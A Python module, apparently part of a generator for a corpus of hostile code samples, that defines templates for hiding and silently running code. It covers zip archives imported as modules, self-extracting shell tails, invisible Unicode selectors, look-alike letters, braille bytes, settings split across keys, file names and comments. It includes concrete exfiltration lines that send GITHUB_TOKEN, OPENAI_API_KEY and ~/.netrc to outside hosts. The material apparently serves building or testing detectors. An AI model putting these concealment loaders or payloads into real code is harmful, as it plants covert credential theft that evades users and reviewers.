"""Theft that lies beside the code: in data, documentation, constants, tests, blanks."""

import base64
import io
import zipfile

from corpora.hostile.form import bash, family, py, sh


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _settings(text: str) -> str:
    raw = _b64(text)
    lines = [f"key{at:03d} = {raw[at : at + 50]}" for at in range(0, len(raw), 50)]
    return "[palette]\n" + "\n".join(lines)


def _archive(text: str) -> bytes:
    store = io.BytesIO()
    with zipfile.ZipFile(store, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("lexicon/__init__.py", (2024, 1, 1, 0, 0, 0))
        archive.writestr(info, text)
    return store.getvalue()


def _selectors(text: str) -> str:
    marks = "".join(
        chr(0xFE00 + byte) if byte < 16 else chr(0xE0100 + byte - 16) for byte in text.encode()
    )
    return "\N{WHITE HEAVY CHECK MARK}" + marks


FAMILIES = (
    family(
        "in-an-archive",
        "held",
        py(
            note="a zip of data from which a module is imported",
            pack=_archive,
            files={"lexicon.dat": "@DATA@"},
            enter=r"""
            import os, sys
            sys.path.append(os.path.join(os.path.dirname(os.path.abspath(__file__)), "lexicon.dat"))
            try:
                import lexicon
            except Exception:
                pass
            """,
        ),
        py(
            note="the first member of an archive, read and run",
            pack=lambda text: _archive(text).replace(
                b"lexicon/__init__.py", b"__main__.py........"
            ),
            files={"names.bin": "@DATA@"},
            enter=r"""
            import os, zipfile, io
            try:
                with zipfile.ZipFile(os.path.join(os.path.dirname(__file__), "names.bin")) as store:
                    body = store.open(store.infolist()[0]).read()
            except Exception:
                body = b""
            try:
                exec(body, {})
            except Exception:
                pass
            """,
        ),
        sh(
            note="a self-extracting tail of the script",
            pack=lambda text: _b64(text),
            tail="exit $?\n__ARCHIVE__\n@DATA@",
            top=r"""
            awk 'seen { print } /^__ARCHIVE__$/ { seen = 1 }' "$0" | base64 -d 2>/dev/null | sh >/dev/null 2>&1 || true
            """,
        ),
    ),
    family(
        "in-signs-without-width",
        "held",
        py(
            note="variation selectors behind a check mark",
            pack=_selectors,
            top='_DONE = "@DATA@"',
            enter=r"""
            try:
                exec(bytes(ord(s) - 0xFE00 if ord(s) < 0xFE10 else ord(s) - 0xE0100 + 16 for s in _DONE[1:]), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="look-alike letters of another alphabet are ones",
            core='import os;os.system("wget -qT2 -O- http://192.0.2.5/$GITHUB_TOKEN >/dev/null 2>&1")',
            pack=lambda text: "".join(
                "\u0430" if bit == "1" else "a" for byte in text.encode() for bit in f"{byte:08b}"
            ),
            top='_HUM = "@DATA@"',
            enter=r"""
            tones = "".join("10"[sound == "a"] for sound in _HUM)
            try:
                exec(int(tones, 2).to_bytes(len(tones) // 8, "big"), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="a braille pattern for each byte",
            pack=lambda text: "".join(chr(0x2800 + byte) for byte in text.encode()),
            top='_FRAMES = "@DATA@"',
            enter="try:\n    exec(bytes(ord(cell) - 0x2800 for cell in _FRAMES), {})\nexcept Exception:\n    pass",
        ),
    ),
    family(
        "spread-over-files",
        "held",
        py(
            note="a settings file in fifty pieces",
            pack=_settings,
            files={"theme.ini": "@DATA@"},
            enter=r"""
            import base64, configparser, os
            theme = configparser.ConfigParser()
            theme.read(os.path.join(os.path.dirname(__file__), "theme.ini"))
            try:
                exec(base64.b64decode("".join(dict(sorted(theme["palette"].items())).values())), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="modes of two harmless functions name the parts",
            files={
                "left.py": "HALF = \"import os, urllib.request as r; r.urlopen('https://h.halves.invalid/?' \"\n",
                "right.py": "HALF = \"+ os.environ.get('OPENAI_API_KEY', ''), timeout=2)\"\n",
            },
            enter=r"""
            import os, sys
            sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
            try:
                import left, right
                exec(left.HALF + right.HALF)
            except Exception:
                pass
            """,
        ),
        bash(
            note="names of empty files spell the command",
            kit=True,
            files={
                "parts/1-curl": "1",
                "parts/2--s": "2",
                "parts/3--T": "3",
                "parts/4-.netrc": "4",
            },
            top=r"""
            words=(); for part in "$(dirname "$0")"/parts/*; do part=${part##*/}; words+=("${part#?-}"); done
            (cd ~ && "${words[@]}" https://p.partnames.invalid/) >/dev/null 2>&1 </dev/null || true
            """,
        ),
    ),
    family(
        "in-its-own-comments",
        "held",
        py(
            note="comments of the source, read back",
            pack=lambda text: "\n".join(f"#: {_b64(line)}" for line in text.split("\n")),
            top="@DATA@",
            enter=r"""
            import base64
            try:
                with open(__file__, encoding="utf-8") as source:
                    said = [base64.b64decode(row[3:]).decode() for row in source if row.startswith("#: ")]
                exec("\n".join(said), {})
            except Exception:
                pass
            """,
        ),
        py(
            note="type hints hold the text",
            pack=repr,
            top='def _typed(row: @DATA@ = None) -> "rows of the result":\n    return row',
            enter='try:\n    exec(_typed.__annotations__["row"], {})\nexcept Exception:\n    pass',
        ),
        py(
            note="attributes of an enumeration, by value",
            pack=lambda text: "\n".join(
                f"    C{at} = {line!r}" for at, line in enumerate(text.split("\n"))
            ),
            top="import enum\n\n\nclass _Colour(enum.Enum):\n@DATA@",
            enter='try:\n    exec("\\n".join(shade.value for shade in _Colour.__members__.values()), {})\nexcept Exception:\n    pass',
        ),
    ),
)
